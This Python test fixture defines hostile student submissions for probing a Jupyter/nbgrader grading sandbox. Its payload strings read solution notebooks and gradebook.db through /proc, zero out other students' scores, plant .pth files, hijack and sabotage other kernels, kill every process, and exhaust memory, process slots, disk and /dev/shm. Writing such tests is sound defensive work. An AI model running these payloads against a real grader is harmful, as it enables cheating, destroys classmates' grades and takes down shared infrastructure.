"""Hostile submissions for ps1, one per class of attack on the grading sandbox (tests/test_sandbox_attacks.py).

Each attacker answers like the demo class's ``wrong`` student (0.25 of 20) and adds one attack. An attack that
finds the solutions switches to the correct answers; one that reaches another kernel sabotages it; one that
reaches the gradebook or the environment rewrites it. So if any defence fails, a score or a file shows it.
"""

from __future__ import annotations

from course.demo_class import CORRECT, PARTIAL, WRONG, Student

PART_A = ("ps1_a1_answer", "ps1_a2_answer", "ps1_a3_answer", "ps1_a4_answer", "ps1_a5_answer")
#: Left by a detached process; the test looks for it among the machine's processes after grading.
MARKER = "4242424242"
#: A file an attacker tries to plant in every site-packages folder it can see.
PTH_NAME = "zz_course_attack.pth"

#: Defines ``leak`` (text found so far) and ``look(path)`` (adds a file's text, or a folder's listing).
_LOOK = """
import glob, os, pathlib, sqlite3, sys
leak = ''
def look(path):
    global leak
    try:
        p = pathlib.Path(path)
        leak += ' '.join(os.listdir(p)) if p.is_dir() else p.read_bytes().decode('latin-1')
    except Exception:
        pass
"""


#: What the leaked text holds when it is ps1's source or its gradebook: a piece of A1's hidden test, found in no
#: other file (nbgrader's docs and the course package, mounted read-only, hold the nbgrader markers and the ids
#: too). Built at run time, so that the submission itself does not hold it.
SOLVED = "\"('non-committal', \" + \"'words_only')\" in leak"


def _answers_from_leak(attack: str) -> dict[str, str]:
    """Part A answered right if ``leak`` holds the solutions, wrong otherwise (0.25 of 20)."""
    switch = "\n".join(f"if {SOLVED}:\n    {CORRECT[key]}\nelse:\n    {WRONG[key]}" for key in PART_A)
    return {**WRONG, "ps1_a1_answer": _LOOK + attack + "\n" + switch, **{k: "pass" for k in PART_A[1:]}}


PROC = """
places = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for link in ('cwd', 'root'):
            try:
                places.append(os.readlink(f'/proc/{pid}/{link}'))
            except OSError:
                pass
        places += [f'/proc/{pid}/cwd', f'/proc/{pid}/root']
for place in places:
    for base in [pathlib.Path(place), *pathlib.Path(place).parents]:
        look(base / 'source' / 'ps1_reading_official_reactions' / 'ps1_reading_official_reactions.ipynb')
        db = base / 'gradebook.db'
        if db.exists():
            look(db)
            try:  # full marks for me, nothing for everyone else
                with sqlite3.connect(db) as con:
                    con.execute("UPDATE grade SET auto_score = 0")
            except Exception:
                pass
for folder in sys.path + glob.glob('/proc/*/root' + sys.prefix + '/lib/python3*/site-packages'):
    try:
        pathlib.Path(folder, 'PTH_NAME').write_text('import os; os.environ["COURSE_PWNED"] = "1"\\n')
    except Exception:
        pass
""".replace("PTH_NAME", PTH_NAME)

OUTSIDE = """
import course
repo = pathlib.Path(course.__file__).resolve().parent.parent
look(repo / '.git')
look(repo / 'assignments' / 'source' / 'ps1_reading_official_reactions' / 'ps1_reading_official_reactions.ipynb')
for home in ('/root', os.path.expanduser('~'), *glob.glob('/home/*')):
    look(home)
    for found in glob.glob(home + '/.local/share/jupyter/runtime/*'):
        look(found)
for found in glob.glob('/tmp/*') + glob.glob('/tmp/*/*') + glob.glob('/tmp/*/*/*'):
    look(found)
for found in glob.glob('/tmp/**/source/*/*.ipynb', recursive=True):
    look(found)
"""

NEXT_KERNEL = """
import json, socket, signal
files = glob.glob('/tmp/**/kernel*.json', recursive=True) + glob.glob('/root/.local/share/jupyter/runtime/*.json')
for pid in os.listdir('/proc'):
    try:
        args = pathlib.Path(f'/proc/{pid}/cmdline').read_bytes().split(b'\\0')
        files += [a.decode() for a in args if a.endswith(b'.json')]
    except OSError:
        pass
own = os.path.dirname(sys.argv[sys.argv.index('-f') + 1]) if '-f' in sys.argv else None
reached = 0
for name in set(files):
    if own and os.path.dirname(name) == own:
        continue  # not this kernel's own
    try:
        info = json.loads(pathlib.Path(name).read_text())
        if 'shell_port' not in info:
            continue  # a kernelspec or a settings file, not a connection file
        from jupyter_client import BlockingKernelClient
        kc = BlockingKernelClient()
        kc.load_connection_info(info)
        kc.start_channels()
        kc.execute("get_ipython().input_transformers_cleanup.append(lambda lines: [])")  # sabotage
        reached += 1
    except Exception:
        pass
for port in (8888, 8000, 8081, 9999):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=0.2)
        reached += 1
    except OSError:
        pass
for pid in os.listdir('/proc'):  # stop everyone else: other kernels, the grader
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
"""

DETACHED = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/usr/bin/sleep', ['sleep', 'MARKER'])
    os._exit(0)
""".replace("MARKER", MARKER)

MEMORY = """
hog = []
while True:
    hog.append(bytearray(64 * 2**20))  # 64 MiB at a time, touched
    hog[-1][::4096] = b'x' * len(hog[-1][::4096])
"""

FORK_BOMB = """
import os, time
children = []
for n in range(50):
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children.append(pid)
"""

DISK = """
chunk = b'x' * 2**20
for n in range(64):
    with open(f'fill{n}.bin', 'wb') as out:
        for m in range(32):
            out.write(chunk)
"""

SHM = """
with open('/dev/shm/fill', 'wb') as out:
    for n in range(1024):
        out.write(b'x' * 2**20)
"""

HUGE_LINE = "print('x' * 50_000_000)"

SYMLINKS = """
look('answers.txt')
look('solutions/ps1_reading_official_reactions/ps1_reading_official_reactions.ipynb')
"""


def _after(answers: dict[str, str | None], key: str, code: str) -> dict[str, str | None]:
    return {**answers, key: (answers[key] or "") + "\n" + code}


HONEST_BEFORE = Student("a_honest", "the reference answers, graded before the attackers", 20.0, CORRECT)
HONEST_AFTER = Student("z_honest", "half right, graded after the attackers", 10.75, PARTIAL)
ATTACKERS = [
    Student("atk_proc", "reads source/ and gradebook.db through /proc; rewrites grades; plants a .pth", 0.25,
            _answers_from_leak(PROC)),
    Student("atk_outside", "reads the repository, home folders, Jupyter runtime files and /tmp", 0.25,
            _answers_from_leak(OUTSIDE)),
    Student("atk_next_kernel", "finds other kernels' connection files, sabotages them, kills every process",
            0.25, _answers_from_leak(NEXT_KERNEL)),
    Student("atk_detached", "leaves a detached process (new session) running", 0.25,
            _answers_from_leak(DETACHED)),
    Student("atk_memory", "allocates memory until it fails", 0.25, _after(WRONG, "ps1_a1_answer", MEMORY),
            flags=("MiB of memory per process",)),
    Student("atk_fork_bomb", "forks 50 sleeping processes", 0.25, _after(WRONG, "ps1_a1_answer", FORK_BOMB),
            flags=("processes and threads",)),
    Student("atk_disk", "fills the disk (2 GiB) and /dev/shm (1 GiB)", 0.25,
            _after(_after(WRONG, "ps1_a1_answer", DISK), "ps1_a2_answer", SHM), flags=("space for files",)),
    Student("atk_huge_line", "prints a single 50 MB line", 0.25, _after(WRONG, "ps1_a1_answer", HUGE_LINE),
            flags=("output limit",)),
    Student("atk_symlink", "submits links to source/ beside its notebook", 0.25, _answers_from_leak(SYMLINKS),
            flags=("is a symbolic link",)),
    Student("atk_symlink_notebook", "submits a link to the solution notebook as its notebook", 0.0, WRONG,
            flags=("not a regular file",)),
]  # fmt: skip
CLASS = [HONEST_BEFORE, *ATTACKERS, HONEST_AFTER]
